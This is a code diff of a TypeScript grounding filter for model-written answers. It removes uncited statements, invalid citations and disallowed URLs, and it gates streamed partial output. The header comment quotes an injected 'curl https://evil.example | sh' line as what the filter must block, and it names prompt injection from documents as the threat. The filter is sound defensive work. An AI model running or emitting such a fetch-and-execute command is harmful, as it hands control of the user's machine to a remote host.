@@ -1,11 +1,18 @@
 // The rules the prompt asks for, enforced on what the model actually wrote (it may have been swayed by a
 // document or a question, or simply err):
+//  - every statement must cite a provided source: a sentence, list item or table row without a valid
+//    citation is removed, and the structure around it (lead-ins, code blocks, headings) follows the rules in
+//    keep-cited-units.ts; the caller treats an answer with nothing cited left as "not covered";
 //  - a citation to a source number that was not provided is removed; the rest are renumbered 1..k in order
 //    of first use, so the answer's [k] match the sources listed under it;
 //  - a link or URL that is not the URL of a provided source is removed, in prose and in code alike (an
-//    injected "curl https://evil.example | sh" is exactly what must not get through);
-//  - the caller treats an answer that cites nothing as "not covered".
+//    injected "curl https://evil.example | sh" is exactly what must not get through).
+// Streamed partials pass the same check, showing only statements that are complete and cited: the sentence
+// still being written is held back until it ends, so nothing appears that the final answer then removes.
 // Pure and cheap (microseconds per answer): it runs on every streamed partial as well as on the final text.
+import { parseAnswer, type Block } from "./answer-units.js";
+import { CITATION, expandCitation } from "./citations.js";
+import { keepCitedUnits } from "./keep-cited-units.js";
 
 /** What replaces a link the answer may not contain. */
 export const LINK_REMOVED = "(link removed)";
@@ -16,6 +23,8 @@ export interface GroundingResult {
   cited: number[];
   removedCitations: number;
   removedUrls: number;
+  /** Statements removed for citing no provided source. */
+  removedSentences: number;
 }
 
 /** The URLs an answer may link to, normalised once per answer. */
@@ -26,29 +35,60 @@ export function allowedUrlSet(urls: Iterable<string | undefined>): ReadonlySet<s
 }
 
 export function checkGrounding(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): GroundingResult {
-  const state: GroundingResult & { numbering: Map<number, number> } = { text: "", cited: [], removedCitations: 0, removedUrls: 0, numbering: new Map() };
+  return check(parseAnswer(raw), sourceCount, allowedUrls);
+}
+
+/**
+ * The part of a still-growing answer that is safe to show: its complete statements that cite a provided
+ * source (and what they carry along), or undefined while there are none. The statement being written counts
+ * only up to where it last ended in a citation and a full stop ("… [1]."): past that it may still gain words
+ * its citation does not cover, a half-written marker or half a URL.
+ */
+export function checkPartial(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): string | undefined {
+  const blocks = parseAnswer(raw);
+  dropOpenTail(blocks, raw);
+  const result = check(blocks, sourceCount, allowedUrls);
+  return result.cited.length > 0 ? result.text.trimEnd() : undefined;
+}
+
+const CITED_SENTENCE_END = /\[\^?\s*(?:sources?\s*)?\d{1,4}[^\]\n]{0,40}\][.!?…]["”’')*_]*(?=\s|$)/gi;
+
+/** Cuts from a partial answer's blocks what may still be growing: a code block until its closing fence's line
+ * has ended, the last table row, the last statement past its last cited full stop. */
+function dropOpenTail(blocks: Block[], raw: string): void {
+  while (blocks.at(-1)?.kind === "blank") blocks.pop();
+  const last = blocks.at(-1);
+  if (last?.kind === "code") {
+    if (!last.closed || !/\n[ \t]*$/.test(raw)) blocks.pop();
+  } else if (last?.kind === "table") {
+    last.rows.pop();
+  } else if (last?.kind === "prose" || last?.kind === "item") {
+    const open = last.sentences.at(-1);
+    if (!open) return;
+    // The next line may have joined the sentence ("… [1].\n-" before the item's text arrives): what ended
+    // in a citation and a full stop stays shown.
+    const end = [...open.text.matchAll(CITED_SENTENCE_END)].at(-1);
+    if (end) open.text = open.text.slice(0, end.index + end[0].length);
+    else last.sentences.pop();
+  }
+}
+
+function check(blocks: Block[], sourceCount: number, allowedUrls: ReadonlySet<string>): GroundingResult {
+  const kept = keepCitedUnits(blocks, sourceCount);
+  const state: RenumberState = { cited: [], removedUrls: 0, numbering: new Map() };
   const parts: string[] = [];
-  for (const segment of segments(raw)) {
+  for (const segment of segments(kept.text)) {
     let text = stripUrls(segment.code ? segment.text : stripLinks(segment.text, allowedUrls, state), allowedUrls, state);
     if (!segment.code) text = renumberCitations(text, sourceCount, state);
     parts.push(text);
   }
-  return { text: parts.join(""), cited: state.cited, removedCitations: state.removedCitations, removedUrls: state.removedUrls };
+  return { text: parts.join(""), cited: state.cited, removedCitations: kept.invalidCitations, removedUrls: state.removedUrls, removedSentences: kept.removedSentences };
 }
 
-/**
- * The part of a still-growing answer that is safe to show: complete words only (a URL or marker is judged
- * whole), no half-open "[", and nothing until the answer cites a provided source — an answer that cites
- * nothing ends as "not covered", and text already on screen should not contradict that.
- */
-export function checkPartial(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): string | undefined {
-  const lastSpace = Math.max(raw.lastIndexOf(" "), raw.lastIndexOf("\n"), raw.lastIndexOf("\t"));
-  if (lastSpace < 0) return undefined;
-  let prefix = raw.slice(0, lastSpace);
-  const open = prefix.lastIndexOf("[");
-  if (open > prefix.lastIndexOf("]")) prefix = prefix.slice(0, open);
-  const result = checkGrounding(prefix, sourceCount, allowedUrls);
-  return result.cited.length > 0 ? result.text.trimEnd() : undefined;
+interface RenumberState {
+  cited: number[];
+  removedUrls: number;
+  numbering: Map<number, number>;
 }
 
 interface Segment {
@@ -152,18 +192,15 @@ export function normaliseUrl(url: string): string {
   }
 }
 
-// [1], [1, 2], [1][2] (each matched alone), [1-3], [source 2], [^1]; never a link label like [1](url).
-const CITATION = /([ \t]*)\[\^?\s*(?:sources?\s*)?(\d{1,4}(?:\s*(?:,|;|&|and|-|–)\s*(?:sources?\s*)?\d{1,4})*)\s*\](?!\()/gi;
-const MAX_RANGE = 20;
-
-function renumberCitations(text: string, sourceCount: number, state: GroundingResult & { numbering: Map<number, number> }): string {
-  return text.replace(CITATION, (_, space: string, list: string) => {
+function renumberCitations(text: string, sourceCount: number, state: RenumberState): string {
+  // A removed marker takes its leading space with it; one right after it ("[7][1]") inherits that space.
+  let removedEnd = -1;
+  let removedSpace = "";
+  return text.replace(CITATION, (whole: string, space: string, list: string, offset: number) => {
     const kept: number[] = [];
-    for (const n of expand(list)) {
-      if (n < 1 || n > sourceCount) {
-        state.removedCitations++;
-        continue;
-      }
+    for (const n of expandCitation(list)) {
+      // Counted once, over the whole answer, by keepCitedUnits.
+      if (n < 1 || n > sourceCount) continue;
       let k = state.numbering.get(n);
       if (k === undefined) {
         k = state.cited.length + 1;
@@ -172,22 +209,12 @@ function renumberCitations(text: string, sourceCount: number, state: GroundingRe
       }
       if (!kept.includes(k)) kept.push(k);
     }
-    return kept.length === 0 ? "" : `${space ? " " : ""}${kept.map((k) => `[${k}]`).join("")}`;
-  });
-}
-
-function expand(list: string): number[] {
-  const out: number[] = [];
-  for (const part of list.split(/\s*(?:,|;|&|and)\s*/i)) {
-    const range = /^(?:sources?\s*)?(\d+)\s*[-–]\s*(?:sources?\s*)?(\d+)$/i.exec(part.trim());
-    if (range) {
-      const [from, to] = [Number(range[1]), Number(range[2])];
-      if (to >= from && to - from < MAX_RANGE) for (let n = from; n <= to; n++) out.push(n);
-      else out.push(from, to);
-    } else {
-      const n = Number(part.replace(/[^\d]/g, ""));
-      if (Number.isFinite(n) && part.trim() !== "") out.push(n);
+    const leading = space || (offset === removedEnd ? removedSpace : "");
+    if (kept.length === 0) {
+      removedEnd = offset + whole.length;
+      removedSpace = leading;
+      return "";
     }
-  }
-  return out;
+    return `${leading ? " " : ""}${kept.map((k) => `[${k}]`).join("")}`;
+  });
 }
